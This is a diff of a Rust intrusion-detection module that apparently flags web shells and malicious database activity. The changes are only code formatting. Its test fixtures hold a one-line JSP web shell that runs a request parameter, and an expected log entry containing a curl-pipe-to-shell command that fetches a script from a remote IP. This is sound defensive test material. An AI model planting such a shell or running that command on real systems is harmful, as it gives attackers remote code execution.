@@ -79,7 +79,11 @@ fn web_commands(ctx: &Context) -> Vec<Finding> {
             escape_bytes(&script)
         ));
         for (l, cmd) in hits.iter().take(QUOTED) {
-            let client = l.log.client.map(|c| format!(" from {c}")).unwrap_or_default();
+            let client = l
+                .log
+                .client
+                .map(|c| format!(" from {c}"))
+                .unwrap_or_default();
             f = f.evidence(quote(
                 l,
                 format!("request{client} ran: {}", escape_bytes(cmd)),
@@ -197,7 +201,11 @@ fn database(ctx: &Context) -> Vec<Finding> {
             let LogEvent::DbProgram { statement } = &l.log.event else {
                 continue;
             };
-            let client = l.log.client.map(|c| format!(" (client {c})")).unwrap_or_default();
+            let client = l
+                .log
+                .client
+                .map(|c| format!(" (client {c})"))
+                .unwrap_or_default();
             f = f.evidence(quote(l, format!("{}{client}", escape_bytes(statement))));
         }
         if let Some(file) = ctx.model.file(path) {
@@ -224,22 +232,40 @@ mod tests {
         let iocs = Indicators::builtin();
         let with_shell = fixture::model(
             vec![
-                fixture::file(b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt", Some(ACCESS)),
-                fixture::file(b"/var/lib/tomcat9/webapps/mgmt/cmd.jsp", Some(b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")),
+                fixture::file(
+                    b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt",
+                    Some(ACCESS),
+                ),
+                fixture::file(
+                    b"/var/lib/tomcat9/webapps/mgmt/cmd.jsp",
+                    Some(b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
+                ),
             ],
             vec![],
         );
-        let found = detect(&Context { model: &with_shell, iocs: &iocs });
+        let found = detect(&Context {
+            model: &with_shell,
+            iocs: &iocs,
+        });
         assert_eq!(found.len(), 1, "{found:?}");
         let f = &found[0];
-        assert_eq!((f.rule.as_str(), f.severity), ("MT-ENT-001", Severity::High));
-        assert!(f.evidence.iter().any(|e| e.contains("curl -fsSL http://203.0.113.88/t.sh|sh")));
+        assert_eq!(
+            (f.rule.as_str(), f.severity),
+            ("MT-ENT-001", Severity::High)
+        );
+        assert!(f
+            .evidence
+            .iter()
+            .any(|e| e.contains("curl -fsSL http://203.0.113.88/t.sh|sh")));
         // Gone from disk: the log alone is low; the search for "bash tutorial" is nobody's shell.
         let without = fixture::model(
             vec![fixture::file(b"/var/log/nginx/access.log", Some(ACCESS))],
             vec![],
         );
-        let found = detect(&Context { model: &without, iocs: &iocs });
+        let found = detect(&Context {
+            model: &without,
+            iocs: &iocs,
+        });
         assert_eq!(found.len(), 1);
         assert_eq!(found[0].severity, Severity::Low);
         assert!(found[0].subjects.is_empty());
@@ -256,13 +282,23 @@ mod tests {
             ],
             vec![],
         );
-        let found = detect(&Context { model: &model, iocs: &iocs });
+        let found = detect(&Context {
+            model: &model,
+            iocs: &iocs,
+        });
         assert_eq!(found.len(), 1);
-        assert_eq!((found[0].rule.as_str(), found[0].severity), ("MT-ENT-002", Severity::High));
+        assert_eq!(
+            (found[0].rule.as_str(), found[0].severity),
+            ("MT-ENT-002", Severity::High)
+        );
         let clean = fixture::model(
             vec![fixture::file(b"/var/log/redis/redis-server.log", Some(b"1:M 02 Jun 2025 06:00:01.116 * Ready to accept connections tcp\n1:M 02 Jun 2025 07:00:03.011 * DB saved on disk\n"))],
             vec![],
         );
-        assert!(detect(&Context { model: &clean, iocs: &iocs }).is_empty());
+        assert!(detect(&Context {
+            model: &clean,
+            iocs: &iocs
+        })
+        .is_empty());
     }
 }
